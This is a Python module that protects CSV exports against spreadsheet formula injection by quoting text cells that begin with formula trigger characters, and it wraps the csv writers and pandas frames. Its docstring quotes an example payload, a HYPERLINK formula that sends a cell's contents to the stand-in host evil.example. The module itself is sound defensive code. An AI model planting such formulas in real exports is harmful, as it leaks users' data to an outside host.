"""Writing CSV that is safe to open in a spreadsheet: the one path every CSV writer takes.

A lead's attributes are whatever a form or an import put there. A source named
`=HYPERLINK("http://evil.example?"&A2,"click")`, written to a report's CSV as it is,
becomes a live formula when marketing opens the file in Excel, LibreOffice or Google
Sheets (CSV or "formula" injection). Following OWASP's advice, a **text** cell that
starts with `=`, `+`, `-`, `@`, a tab, a carriage return or a line feed is written with a
single quote in front, which spreadsheets show as text:

    >>> [safe_cell(v) for v in ["=1+2", "@SUM(A1)", "-2+3", "Acme", -5, 0.25, "-5"]]
    ["'=1+2", "'@SUM(A1)", "'-2+3", 'Acme', -5, 0.25, '-5']

The choices (see docs/security.md):
- Only text is touched. A number (int, float, Decimal; never bool) stays a number, so a
  negative score such as -5 is still summable in the spreadsheet.
- Text that is nothing but a plain number ("-5", "+3.25", "-1e3") is left as it is: a
  spreadsheet reads it as that number, and no formula can hide in it.
- The quote is visible to a program that reads the CSV back (it is part of the cell):
  the price of a file that is safe wherever it is opened. JSON output is never changed.

Writers: `writer(fh)` and `dict_writer(fh, fieldnames)` wrap the `csv` module's;
`safe_frame(frame)` gives a pandas frame whose text cells are neutralised.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# The first characters a spreadsheet takes as the start of a formula (OWASP), plus LF.
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that could start a formula gets a leading
    single quote; everything else (numbers, None, plain text) is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of `row` through `safe_cell`."""
    return [safe_cell(v) for v in row]


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell` (the header row too)."""

    def __init__(self, fh: Any, **fmt: Any):
        self._w = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row."""
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write many rows."""
        for row in rows:
            self._w.writerow(safe_row(row))


class SafeDictWriter:
    """`csv.DictWriter` whose every cell (and header name) goes through `safe_cell`."""

    def __init__(self, fh: Any, fieldnames: Sequence[str], **fmt: Any):
        self.fieldnames = list(fieldnames)
        self._w = SafeWriter(fh, **fmt)

    def writeheader(self) -> None:
        """Write the field names."""
        self._w.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        """Write one row (missing keys are empty cells)."""
        self._w.writerow(row.get(k, "") for k in self.fieldnames)

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        """Write many rows."""
        for row in rows:
            self.writerow(row)


def writer(fh: Any, **fmt: Any) -> SafeWriter:
    """A CSV writer on `fh` that neutralises formula-like text cells."""
    return SafeWriter(fh, **fmt)


def dict_writer(fh: Any, fieldnames: Sequence[str], **fmt: Any) -> SafeDictWriter:
    """A dict CSV writer on `fh` that neutralises formula-like text cells."""
    return SafeDictWriter(fh, fieldnames, **fmt)


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with its text cells (and column names) neutralised.

    Numeric columns are not touched; in text columns only `str` cells can change.
    """
    out = frame.copy()
    for col in out.columns:
        # Booleans, integers, floats, complex, datetimes and durations hold no text.
        if getattr(out[col].dtype, "kind", "O") not in "biufcmM":
            out[col] = out[col].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


__all__ = [
    "SafeDictWriter",
    "SafeWriter",
    "dict_writer",
    "safe_cell",
    "safe_frame",
    "safe_row",
    "writer",
]
